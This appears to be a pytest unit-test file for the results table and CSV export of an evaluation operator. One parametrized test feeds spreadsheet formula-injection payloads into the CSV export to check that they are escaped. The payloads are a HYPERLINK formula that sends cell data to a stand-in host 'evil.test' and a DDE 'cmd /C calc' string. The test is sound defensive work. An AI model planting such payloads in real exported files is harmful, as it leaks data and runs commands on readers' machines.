"""The table of `nemo-eval-operator results`."""

from __future__ import annotations

import csv
import json
from io import StringIO
from pathlib import Path

import pytest
import yaml

from nemo_eval_operator.kube import ObjectKey
from nemo_eval_operator.kube.kubeconfig import context_namespace
from nemo_eval_operator.results_view import NoResults, read_results, results_csv, results_lines
from tests.unit.lifecycle.objects import evaljob
from tests.unit.reconcile.api_server import CONFIG_MAPS, ApiServer


def test_table_says_on_how_many_rows_a_value_stands() -> None:
    score = {
        "task": "qa",
        "metric": "num",
        "score": "num",
        "value": 1,
        "count": 1,
        "nanCount": 3,
        "stderr": 0.25,
    }
    heading, row = results_lines(evaljob(status={"scores": [score]}), "{}", samples=0)
    assert heading.split() == ["TASK", "METRIC", "SCORE", "VALUE", "COUNT", "STDERR", "NAN"]
    assert "1 of 4" in row
    assert row.split()[-2:] == ["0.25", "3"]


CUSTOM = [
    {
        "index": 0,
        "item": {"question": "Capital of France?", "answer": "Paris"},
        "output_text": "Paris",
        "scores": {"exact": {"string-check": 1}},
    },
    {
        "index": 1,
        "item": {"question": "Capital of Italy?", "answer": "Rome"},
        "output_text": 'Milan, "I think"',
        "scores": {"exact": {"string-check": 0}, "rouge": {"a": 0.5, "b": None}},
    },
]
RECORDED = [
    {"item": {"input": {"prompt": "1 + 1", "ideal_response": "2"}, "response": "2"}, "output_text": "2"}
]
AGENTIC = [
    {
        "item": {"user_input": [{"role": "user"}], "reference_tool_calls": [{"name": "f"}]},
        "output_text": None,
        "scores": {"calls": {"tool_call_accuracy": 1}},
        "error": "no conversation",
    }
]
DOCUMENT = json.dumps(
    {
        "tasks": {
            "qa": {"data": {"samples": CUSTOM}},
            "similar": {"data": {"samples": RECORDED}},
            "tools": {"data": {"samples": AGENTIC}},
        }
    }
)


def lines(*, wrong: bool) -> list[str]:
    return list(results_lines(evaljob(), DOCUMENT, samples=5, wrong=wrong))[1:]


def test_samples_of_every_type_show_input_output_reference_and_scores() -> None:
    assert lines(wrong=False) == [
        "\nqa: 2 of 2 samples",
        "  Capital of France? -> Paris | reference Paris | exact=1",
        '  Capital of Italy? -> Milan, "I think" | reference Rome | exact=0 | rouge.a=0.5 | rouge.b=none',
        "\nsimilar: 1 of 1 sample",
        "  1 + 1 -> 2 | reference 2",
        "\ntools: 1 of 1 sample",
        '  [{"role": "user"}] -> (no output) | reference [{"name": "f"}] | calls=1 | no conversation',
    ]


def test_only_the_wrong_ones_are_shown_on_request() -> None:
    shown = lines(wrong=True)
    assert "\nqa: 1 of 1 wrong sample" in shown
    assert "\nsimilar: 0 of 0 wrong samples" in shown
    assert not any("France" in line for line in shown)


def test_samples_as_csv_have_a_column_for_each_score() -> None:
    assert results_csv(DOCUMENT, wrong=True).splitlines() == [
        '"task","index","input","reference","output","exact","rouge.a","rouge.b","calls","error"',
        '"qa","1","Capital of Italy?","Rome","Milan, ""I think""",0.0,0.5,"","",""',
        '"tools","0","[{""role"": ""user""}]","[{""name"": ""f""}]","","","","",1.0,"no conversation"',
    ]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://evil.test?"&A1)', '\'=HYPERLINK("http://evil.test?"&A1)'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("a\r=1+1", "a\r=1+1"),
        ("- a list", "'- a list"),
        ("-1\n=1+1", "'-1\n=1+1"),
        ("-5", "-5"),
        ("+3.25", "+3.25"),
        ("-.5", "-.5"),
        ("-1.5e-07", "-1.5e-07"),
        ("'quoted", "'quoted"),
        ("1 = 1", "1 = 1"),
        ("", ""),
    ],
)
def test_no_cell_of_the_csv_is_a_formula_to_a_spreadsheet(text: str, cell: str) -> None:
    """Rows and answers come from models and from the authors of datasets."""
    sample = {"index": 0, "item": {"question": text, "answer": text}, "output_text": text, "error": text}
    tasks = {text: {"data": {"samples": [{**sample, "scores": {text: {"a": -0.5}}}]}}}

    heading, row = csv.reader(StringIO(results_csv(json.dumps({"tasks": tasks}), wrong=False), newline=""))

    assert heading == ["task", "index", "input", "reference", "output", cell, "error"]
    assert row == [cell, "0", cell, cell, cell, "-0.5", cell]


@pytest.mark.parametrize(("context", "namespace"), [({"namespace": "team-a"}, "team-a"), ({}, "default")])
def test_the_namespace_is_that_of_the_context(
    tmp_path: Path, context: dict[str, str], namespace: str
) -> None:
    kubeconfig = {
        "apiVersion": "v1",
        "kind": "Config",
        "current-context": "here",
        "contexts": [{"name": "here", "context": {"cluster": "c", "user": "u", **context}}],
        "clusters": [{"name": "c", "cluster": {"server": "https://kube.test"}}],
        "users": [{"name": "u", "user": {}}],
    }
    (tmp_path / "kubeconfig").write_text(yaml.safe_dump(kubeconfig))
    assert context_namespace(tmp_path / "kubeconfig") == namespace


async def test_results_that_are_not_there_are_named() -> None:
    api, key = ApiServer(), ObjectKey("nemoevaljobs", "team-a", "llama")
    with pytest.raises(NoResults, match="NemoEvalJob llama was not found in namespace team-a"):
        await read_results(api.client, key)

    job = evaljob().model_dump(mode="json", by_alias=True, exclude_none=True)
    api.put("nemoevaljobs", "llama", job)
    with pytest.raises(NoResults, match="llama has no results: it has not been reconciled yet"):
        await read_results(api.client, key)

    job["status"] = {"resultsRef": {"configMap": "llama-results", "key": "results.json"}}
    with pytest.raises(NoResults, match="ConfigMap llama-results was not found in namespace team-a"):
        await read_results(api.client, key)

    meta = {"name": "llama-results", "namespace": "team-a", "uid": "1", "resourceVersion": "1"}
    api.documents[f"{CONFIG_MAPS}/llama-results"] = {"metadata": meta, "data": {"other": "{}"}}
    with pytest.raises(NoResults, match="ConfigMap llama-results has no key"):
        await read_results(api.client, key)

    api.config_map("llama-results")["data"] = {"results.json": "{}"}
    read, document = await read_results(api.client, key)
    assert (read.metadata.name, document) == (evaljob().metadata.name, "{}")
